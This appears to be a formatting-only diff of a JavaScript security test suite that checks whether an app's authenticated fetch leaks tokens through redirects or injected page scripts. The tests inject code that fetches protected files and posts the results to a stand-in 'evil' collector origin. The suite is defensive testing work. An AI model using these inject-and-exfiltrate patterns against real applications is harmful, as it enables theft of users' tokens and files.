@@ -118,10 +118,16 @@ attack(
   async (rig) => {
     const page = await ready(rig);
     const [inside, outside] = [`${rig.origins.api}/v1/files`, `${rig.origins.evil}/stolen`].map(encodeURIComponent);
-    const targets = [302, 303, 307, 308].flatMap((status) => [outside, inside].map((to) => `${rig.v1("redirect")}?status=${status}&to=${to}`));
+    const targets = [302, 303, 307, 308].flatMap((status) =>
+      [outside, inside].map((to) => `${rig.v1("redirect")}?status=${status}&to=${to}`),
+    );
     const outcomes = await rig.inject(page, callAll, { targets, inits });
     assert.equal(rig.api.requests.filter(({ path, hadToken }) => path === "/v1/redirect" && hadToken).length, targets.length * 2);
-    assert.deepEqual(rig.api.requests.filter(({ path }) => path === "/v1/files"), [], "the redirect inside of the API was followed");
+    assert.deepEqual(
+      rig.api.requests.filter(({ path }) => path === "/v1/files"),
+      [],
+      "the redirect inside of the API was followed",
+    );
     return verdict(rig, outcomes);
   },
 );
@@ -135,18 +141,27 @@ attack(
     outcome: "works",
   },
   async (rig, { t }) => {
-    const tell = ({ request, response }) => response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(request.headers));
+    const tell = ({ request, response }) =>
+      response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(request.headers));
     const leaky = await startProbe({ answer: tell });
     t.after(leaky.close);
     rig.front.routes["leaky.rig.test"] = leaky.origin;
     const page = await rig.signedIn();
-    await rig.inject(page, async (evil, { url, files }) => {
-      const answer = await app.auth.fetch(files);
-      await evil.post(`${evil.strings([answer, answer.headers, answer.url, answer.type]).join()}${await answer.text()}`);
-    }, { files: rig.v1("files") });
+    await rig.inject(
+      page,
+      async (evil, { url, files }) => {
+        const answer = await app.auth.fetch(files);
+        await evil.post(`${evil.strings([answer, answer.headers, answer.url, answer.type]).join()}${await answer.text()}`);
+      },
+      { files: rig.v1("files") },
+    );
     assert.ok(rig.evil.text().includes("bailey.txt"));
     assert.deepEqual(rig.stolen(...tokens), [], "an answer has what the API did not send");
-    await rig.inject(page, async (evil, url) => evil.post(await (await app.auth.fetch(url)).text()), `${rig.origins.api.replace("api.", "leaky.")}/headers`);
+    await rig.inject(
+      page,
+      async (evil, url) => evil.post(await (await app.auth.fetch(url)).text()),
+      `${rig.origins.api.replace("api.", "leaky.")}/headers`,
+    );
     return rig.verdict(...tokens);
   },
 );
